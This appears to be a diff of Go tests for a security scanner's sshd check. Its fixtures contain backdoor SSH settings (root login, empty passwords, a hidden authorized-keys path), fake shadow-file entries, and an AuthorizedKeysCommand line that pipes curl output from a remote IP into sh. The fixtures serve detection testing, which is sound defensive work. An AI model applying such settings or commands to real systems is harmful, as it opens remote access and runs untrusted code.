@@ -206,6 +206,15 @@ func TestSetIDCheck(t *testing.T) {
 // handed to h, as the volume mounted at mp.
 func feedHook(t *testing.T, fsys fsread.FS, h hook.Hook, mp string) ([]report.Finding, []report.InventoryItem) {
 	t.Helper()
+	fs, inv, errs := feedHookErrs(t, fsys, h, mp)
+	for _, e := range errs {
+		t.Errorf("hook error: %+v", e)
+	}
+	return fs, inv
+}
+
+func feedHookErrs(t *testing.T, fsys fsread.FS, h hook.Hook, mp string) ([]report.Finding, []report.InventoryItem, []report.ScanError) {
+	t.Helper()
 	err := fsread.Walk(fsys, ".", func(p string, d fs.DirEntry, err error) error {
 		if err != nil || !d.Type().IsRegular() {
 			return err
@@ -330,7 +339,7 @@ func TestSSHDCheck(t *testing.T) {
 	debian := "Include /etc/ssh/sshd_config.d/*.conf\nKbdInteractiveAuthentication no\nUsePAM yes\nX11Forwarding yes\nSubsystem sftp /usr/lib/openssh/sftp-server\n"
 	runPriv(t, []privCase{
 		{checkCase: checkCase{name: "planted in an included file", check: "sshd", files: map[string]string{
-			"etc/ssh/sshd_config": debian,
+			"etc/ssh/sshd_config": debian, "etc/shadow": "root:$6$salt$hash:19000:0:99999:7:::\n",
 			"etc/ssh/sshd_config.d/50-cloud.conf": "PermitRootLogin yes\nPasswordAuthentication yes\nPort 2222\n" +
 				"AuthorizedKeysFile .ssh/authorized_keys /var/tmp/.k/%u\nAuthorizedKeysFile /etc/ssh/keys/%u\n" +
 				"AuthorizedKeysCommand /usr/local/bin/keys %u\nAuthorizedKeysCommandUser nobody\nPermitEmptyPasswords yes\n",
@@ -342,6 +351,10 @@ func TestSSHDCheck(t *testing.T) {
 			{path: "/etc/ssh/sshd_config.d/50-cloud.conf", rule: "sshd.keys-command", line: 6, sev: report.Medium},
 			{path: "/etc/ssh/sshd_config.d/50-cloud.conf", rule: "sshd.empty-passwords", line: 8, sev: report.Medium},
 		}}},
+		{checkCase: checkCase{name: "RHEL 8 stock: root login allowed, root password locked", check: "sshd", files: map[string]string{
+			"etc/ssh/sshd_config": "PermitRootLogin yes\nAuthorizedKeysFile .ssh/authorized_keys\nPasswordAuthentication yes\n",
+			"etc/shadow":          "root:!!:19000:0:99999:7:::\n",
+		}, want: []want{{path: "/etc/ssh/sshd_config", rule: "sshd.root-login", line: 1, sev: report.Low}}}, quiet: true},
 		{checkCase: checkCase{name: "key command downloads", check: "sshd", files: map[string]string{
 			"etc/ssh/sshd_config": "AuthorizedKeysCommand /bin/sh -c \"curl -s http://203.0.113.9/k | sh\"\n",
 		}, want: []want{{path: "/etc/ssh/sshd_config", rule: "sshd.download-exec", line: 1, sev: report.High}}}},
